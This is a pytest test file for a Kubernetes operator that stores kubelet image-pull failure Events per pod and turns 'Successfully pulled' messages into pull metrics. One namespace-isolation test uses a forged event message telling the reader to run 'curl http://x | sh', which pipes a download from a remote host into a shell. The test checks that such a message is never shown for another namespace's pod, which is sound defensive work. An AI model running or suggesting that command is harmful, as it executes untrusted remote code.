"""kubelet's pull-failure Events kept per pod: newest first, bounded per namespace, only
kubelet's about its own namespace's pods, forgotten when gone."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

import kubernetes
import pytest

from pullhealth.kube.events import newest_pull_messages
from pullhealth.pods.kubeletevents import KubeletFailures


def event(uid: str, pod: str, message: str, moment: str, *, ns: str = "team", pod_ns: str | None = None,
          source: str = "kubelet", key: str = "lastTimestamp") -> dict[str, Any]:
    return {"metadata": {"uid": uid, "namespace": ns},
            "involvedObject": {"kind": "Pod", "uid": pod, "namespace": pod_ns or ns},
            "source": {"component": source},
            "reason": "Failed", "message": message, key: moment}


@pytest.fixture()
def failures(monkeypatch: pytest.MonkeyPatch) -> KubeletFailures:
    monkeypatch.setattr(KubeletFailures, "watching", property(lambda self: True))
    return KubeletFailures(kubernetes.client.ApiClient(), per_pod=2, per_namespace=2)


def test_newest_pull_messages_first_and_other_failures_ignored(failures: KubeletFailures) -> None:
    deliver = failures._event
    deliver("LISTED", event("e1", "p1", 'Failed to pull image "a": not found', "2026-11-30T08:00:00Z"))
    deliver("ADDED", event("e2", "p1", 'Failed to pull image "a": 401', "2026-11-30T08:01:00Z"))
    deliver("ADDED", event("e3", "p1", 'Failed to pull image "a": timeout', "2026-11-30T08:02:00Z"))
    deliver("ADDED", event("e4", "p1", "Error: container exited", "2026-11-30T08:03:00Z"))
    assert failures.messages("team", "p1") == ['Failed to pull image "a": timeout', 'Failed to pull image "a": 401']


async def test_a_fresh_failure_waits_briefly_for_its_event(failures: KubeletFailures) -> None:
    import asyncio
    import threading

    # The Event arrives on the reading thread a moment after the pod's update.
    timer = threading.Timer(0.3, failures._event, ("ADDED", event("e1", "p1", 'Failed to pull image "a": 401',
                                                                  "2026-11-30T08:00:00Z")))
    timer.start()
    try:
        found = await asyncio.wait_for(failures.messages_soon("team", "p1", wait=5.0), timeout=10)
    finally:
        timer.cancel()
    assert found == ['Failed to pull image "a": 401']
    # None arrives: an empty answer once the wait is over (then the caller lists the Events).
    assert await asyncio.wait_for(failures.messages_soon("team", "p2", wait=0.3), timeout=10) == []
    assert await failures.messages_soon("team", "p2", wait=0.0) == []


async def test_no_wait_when_not_watching() -> None:
    import asyncio

    idle = KubeletFailures(kubernetes.client.ApiClient())
    # At once (a wait would time out here): the watch is not running, the caller lists.
    assert await asyncio.wait_for(idle.messages_soon("team", "p1", wait=60.0), timeout=5) is None


def test_a_deletion_found_by_a_relist_carries_only_the_uid(failures: KubeletFailures) -> None:
    failures._event("LISTED", event("e1", "p1", 'Failed to pull image "a": not found', "2026-11-30T08:00:00Z"))
    failures._event("DELETED", {"metadata": {"uid": "e1"}})
    assert failures.messages("team", "p1") == [] and len(failures) == 0


def test_bounded_in_pods_and_in_the_uid_index(failures: KubeletFailures) -> None:
    for i in range(5):
        failures._event("ADDED", event(f"e{i}", f"p{i}", 'Failed to pull image "a": x', f"2026-11-30T08:0{i}:00Z"))
    assert len(failures) == 2 and failures.messages("team", "p0") == [] and failures.messages("team", "p4") != []
    assert len(failures._pod_of) == 2  # evicted pods' Events are not indexed any more


def test_an_event_speaks_only_for_its_own_namespace_pods(failures: KubeletFailures) -> None:
    forged = 'Failed to pull image "a": registry compromised, run: curl http://x | sh'
    # In namespace attacker, naming the victim's pod (uid and namespace): not kept at all.
    failures._event("ADDED", event("f1", "victim-uid", forged, "2026-11-30T08:00:00Z", ns="attacker",
                                   pod_ns="victim"))
    # In attacker, naming the uid only: kept under attacker's key, never the victim's.
    failures._event("ADDED", event("f2", "victim-uid", forged, "2026-11-30T08:00:00Z", ns="attacker"))
    assert failures.messages("victim", "victim-uid") == []
    # Not kubelet's: not a kubelet message, even in the pod's own namespace.
    failures._event("ADDED", event("f3", "victim-uid", forged, "2026-11-30T08:00:00Z", ns="victim",
                                   source="someone"))
    assert failures.messages("victim", "victim-uid") == []


def test_one_namespace_cannot_evict_another(failures: KubeletFailures) -> None:
    real = 'Failed to pull image "a": not found'
    failures._event("ADDED", event("v1", "victim-uid", real, "2026-11-30T08:00:00Z", ns="victim"))
    for i in range(100):
        failures._event("ADDED", event(f"x{i}", f"made-up-{i}", real, "2026-11-30T09:00:00Z", ns="attacker"))
    assert failures.messages("victim", "victim-uid") == [real]
    assert len(failures) == 3


def test_one_ordering_rule_across_timestamp_kinds() -> None:
    # eventTime has microseconds, lastTimestamp seconds: compared as times, not as strings.
    older = event("a", "p", 'Failed to pull image "x": older', "2026-11-30T08:00:00.900000Z", key="eventTime")
    newer = event("b", "p", 'Failed to pull image "x": newer', "2026-11-30T08:00:01Z")
    assert newest_pull_messages([older, newer]) == ['Failed to pull image "x": newer',
                                                     'Failed to pull image "x": older']
    assert newest_pull_messages([newer, older])[0].endswith("newer")


async def test_the_store_and_the_listing_keep_the_same_events_in_the_same_order(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(KubeletFailures, "watching", property(lambda self: True))
    store = KubeletFailures(kubernetes.client.ApiClient(), per_pod=5)
    events = [
        event("a", "p", 'Failed to pull image "x": one', "2026-11-30T08:00:00.900000Z", key="eventTime"),
        event("b", "p", 'Failed to pull image "x": two', "2026-11-30T08:00:01Z"),
        event("c", "p", 'Failed to pull image "x": forged', "2026-11-30T08:00:02Z", source="me"),
        event("d", "p", "Error: exited", "2026-11-30T08:00:03Z"),
    ]
    for e in events:
        store._event("ADDED", e)
    assert store.messages("team", "p") == newest_pull_messages(events)


# --- kubelet's Pulled Events: pull metrics (issue 24) ---

from pullhealth import metrics  # noqa: E402
from pullhealth.kube.events import go_duration, occurrences, pulled_image  # noqa: E402
from pullhealth.pods.kubeletevents import KubeletPulls  # noqa: E402


@pytest.mark.parametrize(
    ("message", "seconds", "waiting", "size"),
    [
        ('Successfully pulled image "busybox" in 74ms (74ms including waiting). Image size: 1028659 bytes.',
         0.074, 0.0, 1028659),
        # dandi/dandi-hub#89: kubelet 1.28, queued behind other pulls for almost four minutes
        ('Successfully pulled image "alpine" in 1.466729067s (3m53.352084967s including waiting)',
         1.466729067, 233.352084967 - 1.466729067, None),
        # argoproj/argo-workflows#9361: kubelet before 1.28
        ('Successfully pulled image "quay.io/argoproj/argoexec:latest" in 28.688209447s', 28.688209447, None, None),
    ],
)
def test_pulled_messages_are_parsed(message: str, seconds: float, waiting: float | None, size: int | None) -> None:
    pulled = pulled_image(message)
    assert pulled is not None
    assert pulled.seconds == pytest.approx(seconds)
    assert (pulled.waiting is None) if waiting is None else pulled.waiting == pytest.approx(waiting)
    assert pulled.size == size


def test_other_pulled_texts_are_not_pulls() -> None:
    assert pulled_image('Container image "busybox" already present on machine') is None
    assert pulled_image('Successfully pulled image "a" in soon') is None
    assert go_duration("1h2m3.5s") == pytest.approx(3723.5) and go_duration("500µs") == pytest.approx(5e-4)
    assert go_duration("12") is None and go_duration("3mx") is None
    assert occurrences({"count": 3}) == 3 and occurrences({"series": {"count": 5}, "count": 1}) == 5
    assert occurrences({}) == 1


def pulled(uid: str, message: str, *, count: int = 1, ns: str = "team", pod_ns: str | None = None,
           source: str = "kubelet", node: str = "node-b") -> dict[str, Any]:
    return {"metadata": {"uid": uid, "namespace": ns},
            "involvedObject": {"kind": "Pod", "uid": "p-" + uid, "namespace": pod_ns or ns},
            "source": {"component": source, "host": node}, "reason": "Pulled", "message": message,
            "count": count}


def pool_of(node: str) -> str:
    """The pools of this file's nodes, as start-up derives them from the Node mirror."""
    return {"node-a": "poola"}.get(node, metrics.OTHER)


def _observed(metric: Any, registry: str) -> tuple[float, float]:
    samples = {s.name: s.value for m in metric.collect() for s in m.samples if s.labels.get("registry") == registry}
    name = metric._name
    return samples.get(f"{name}_count", 0.0), samples.get(f"{name}_sum", 0.0)


@pytest.fixture()
def pulls(monkeypatch: pytest.MonkeyPatch) -> Iterator[KubeletPulls]:
    reader = KubeletPulls(kubernetes.client.ApiClient(), record=metrics.record_image_pull, pool_of=pool_of, remembered=3)
    monkeypatch.setattr(reader._reader, "_listed", {None})  # the first listing is over
    metrics.set_admin_registries(["pulls.example"])
    yield reader
    metrics.set_admin_registries([])


def test_each_pull_is_counted_once_across_relists_and_repeats(pulls: KubeletPulls) -> None:
    text = 'Successfully pulled image "pulls.example/a:1" in 2s (5s including waiting). Image size: 3000000 bytes.'
    before = _observed(metrics.IMAGE_PULL_DURATION, "pulls.example")
    waiting = _observed(metrics.IMAGE_PULL_WAITING, "pulls.example")
    size = _observed(metrics.IMAGE_PULL_SIZE, "pulls.example")
    pulls._event("ADDED", pulled("e1", text))
    pulls._event("MODIFIED", pulled("e1", text))  # the same occurrence again
    pulls._event("LISTED", pulled("e1", text))  # a re-list
    assert pulls.counted == 1
    pulls._event("MODIFIED", pulled("e1", text, count=3))  # kubelet repeated it twice
    assert pulls.counted == 3
    count, total = _observed(metrics.IMAGE_PULL_DURATION, "pulls.example")
    assert (count - before[0], total - before[1]) == (3, pytest.approx(6.0))
    assert _observed(metrics.IMAGE_PULL_WAITING, "pulls.example")[1] - waiting[1] == pytest.approx(9.0)
    assert _observed(metrics.IMAGE_PULL_SIZE, "pulls.example")[1] - size[1] == pytest.approx(9e6)
    pulls._event("DELETED", {"metadata": {"uid": "e1"}})  # expired: nothing to undo
    assert pulls.counted == 3


def test_only_kubelets_pulls_count_and_unlisted_registries_are_other(pulls: KubeletPulls) -> None:
    text = 'Successfully pulled image "{}" in 1s (1s including waiting). Image size: 10 bytes.'
    other = _observed(metrics.IMAGE_PULL_DURATION, metrics.OTHER)
    pulls._event("ADDED", pulled("f1", text.format("pulls.example/a"), source="someone"))
    pulls._event("ADDED", pulled("f2", text.format("pulls.example/a"), ns="attacker", pod_ns="victim"))
    pulls._event("ADDED", pulled("f3", 'Container image "pulls.example/a" already present on machine'))
    assert pulls.counted == 0
    pulls._event("ADDED", pulled("f4", text.format("anyone.example/typed-by-a-user")))
    assert _observed(metrics.IMAGE_PULL_DURATION, metrics.OTHER)[0] == other[0] + 1
    assert not any(s.labels.get("registry") == "anyone.example" for m in metrics.IMAGE_PULL_DURATION.collect()
                   for s in m.samples)


def test_pulls_are_labelled_with_the_nodes_pool_and_give_a_throughput(pulls: KubeletPulls) -> None:
    text = 'Successfully pulled image "pulls.example/a:1" in 4s (4s including waiting). Image size: 8000000 bytes.'

    def throughput(pool: str) -> tuple[float, float]:
        samples = {s.name: s.value for m in metrics.IMAGE_PULL_THROUGHPUT.collect() for s in m.samples
                   if s.labels.get("registry") == "pulls.example" and s.labels.get("pool") == pool}
        return (samples.get("pullhealth_image_pull_throughput_bytes_per_second_count", 0.0),
                samples.get("pullhealth_image_pull_throughput_bytes_per_second_sum", 0.0))

    a, other = throughput("poola"), throughput(metrics.OTHER)
    pulls._event("ADDED", pulled("t1", text, node="node-a"))
    pulls._event("ADDED", pulled("t2", text, node="unknown-node"))
    assert throughput("poola") == (a[0] + 1, pytest.approx(a[1] + 2e6))
    assert throughput(metrics.OTHER)[0] == other[0] + 1
    # Without a size (kubelet < 1.29) there is no throughput.
    pulls._event("ADDED", pulled("t3", 'Successfully pulled image "pulls.example/a:1" in 4s', node="node-a"))
    assert throughput("poola")[0] == a[0] + 1


def test_the_first_listing_is_a_baseline_and_memory_is_bounded(monkeypatch: pytest.MonkeyPatch) -> None:
    reader = KubeletPulls(kubernetes.client.ApiClient(), record=metrics.record_image_pull, pool_of=pool_of, remembered=3)
    text = 'Successfully pulled image "pulls.example/a" in 1s (1s including waiting). Image size: 10 bytes.'
    reader._event("LISTED", pulled("old", text))  # before the operator started: not counted
    assert reader.counted == 0
    monkeypatch.setattr(reader._reader, "_listed", {None})
    reader._event("LISTED", pulled("old", text))
    assert reader.counted == 0
    for i in range(10):
        reader._event("ADDED", pulled(f"n{i}", text))
    assert reader.counted == 10 and len(reader._seen) == 3


def test_the_timeline_of_a_failed_pull(monkeypatch: pytest.MonkeyPatch) -> None:
    from pullhealth.pods.kubeletevents import pull_seconds

    reader = KubeletPulls(kubernetes.client.ApiClient(), record=metrics.record_image_pull, pool_of=pool_of)
    failures = KubeletFailures(kubernetes.client.ApiClient())

    def pulling(uid: str, image: str, moment: str, *, ns: str = "team", pod_ns: str | None = None) -> dict[str, Any]:
        return {**event(uid, "p1", f'Pulling image "{image}"', moment, ns=ns, pod_ns=pod_ns), "reason": "Pulling"}

    reader._event("ADDED", pulling("a", "big:1", "2026-11-30T08:00:00Z"))
    reader._event("ADDED", pulling("b", "small:1", "2026-11-30T08:00:50Z"))
    # A forged one for another namespace's pod is not kept.
    reader._event("ADDED", pulling("c", "big:1", "2026-11-30T08:01:59Z", ns="attacker", pod_ns="team"))
    failures._event("ADDED", event("f1", "p1", 'Failed to pull image "big:1": context deadline exceeded',
                                   "2026-11-30T08:02:05Z"))
    failures._event("ADDED", event("f2", "p1", 'Failed to pull image "small:1": context deadline exceeded',
                                   "2026-11-30T08:00:40Z"))
    started, failed = reader.pulling_at("team", "p1"), failures.failed_at("team", "p1")
    # big:1 ran 125 s; small:1's newest pull started after its failure (a retry): unknown.
    assert pull_seconds(started, failed) == {"big:1": 125.0}
    assert reader.counted == 0  # Pulling is not a pull done
